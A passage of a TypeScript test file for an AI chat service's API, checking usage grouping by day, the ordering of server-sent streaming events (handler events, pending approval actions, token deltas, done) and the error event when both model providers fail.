      const byDay = (await (
        await rt.request('/v1/usage?group_by=day&from=2026-11-01&to=2026-12-01', { key: staff.key })
      ).json()) as { rows: Array<{ key: string }> };
      assert.deepEqual(
        byDay.rows.map((r) => r.key),
        ['2026-11-22'],
      );
      assert.equal((await rt.request('/v1/usage?group_by=weekday', { key: staff.key })).status, 400);
    } finally {
      await rt.close();
    }
  });
});

describe('SSE streaming', () => {
  test('streams real token deltas, handler events, pending actions, then done — in order', async () => {
    const { rt, key } = await setup();
    try {
      primary.enqueue(
        {
          toolCalls: [
            { name: 'test-lookup', args: { item: 'widget' } },
            { name: 'test-record_save', args: { name: 'Ana' } },
          ],
        },
        { text: 'The figure is FIGURE-WIDGET and saving Ana awaits approval.' },
      );
      const res = await rt.request('/v1/chat', {
        key,
        body: { message: 'Figure and save me' },
        headers: { accept: 'text/event-stream' },
      });
      assert.equal(res.status, 200);
      assert.match(res.headers.get('content-type') ?? '', /text\/event-stream/);
      const events = parseSse(await res.text());
      const names = events.map((e) => e.event);
      const tokens = events.filter((e) => e.event === 'token').map((e) => (e.data as { text: string }).text);
      assert.ok(tokens.length > 3, 'the answer arrives as several provider deltas');
      assert.equal(tokens.join(''), 'The figure is FIGURE-WIDGET and saving Ana awaits approval.');
      assert.equal(names.at(-1), 'done');
      const firstToken = names.indexOf('token');
      assert.ok(names.indexOf('handler') < firstToken, 'handlers run before the answer streams');
      assert.ok(names.indexOf('pending_action') < firstToken);
      const done = events.at(-1)!.data as ChatTurnResult;
      assert.equal(done.response, tokens.join(''));
      assert.equal(done.pending_actions.length, 1);
      const handlerEvents = events
        .filter((e) => e.event === 'handler')
        .map((e) => e.data as { phase: string; key: string });
      assert.deepEqual(
        handlerEvents.filter((h) => h.key === 'test.lookup').map((h) => h.phase),
        ['started', 'finished'],
      );
    } finally {
      await rt.close();
    }
  });

  test('an error becomes an error event', async () => {
    const { rt, key } = await setup();
    try {
      primary.enqueue({ status: 500 });
      backup.enqueue({ status: 500 });
      const res = await rt.request('/v1/chat', {
        key,
        body: { message: 'Hello' },
        headers: { accept: 'text/event-stream' },
      });
      const events = parseSse(await res.text());
      assert.deepEqual(
        events.map((e) => e.event),
        ['error'],
      );
      assert.equal((events[0].data as { error: string }).error, 'model_unavailable');
    } finally {
      await rt.close();
    }
  });
});

function parseSse(text: string): Array<{ event: string; data: unknown }> {
  return text
    .split('\n\n')
    .filter((block) => block.trim())
    .map((block) => {
      const event = block.match(/^event: (.*)$/m)?.[1] ?? 'message';
      const data = block
        .split('\n')
        .filter((l) => l.startsWith('data: '))
        .map((l) => l.slice(6))
        .join('\n');
      return { event, data: JSON.parse(data) };
    });
}
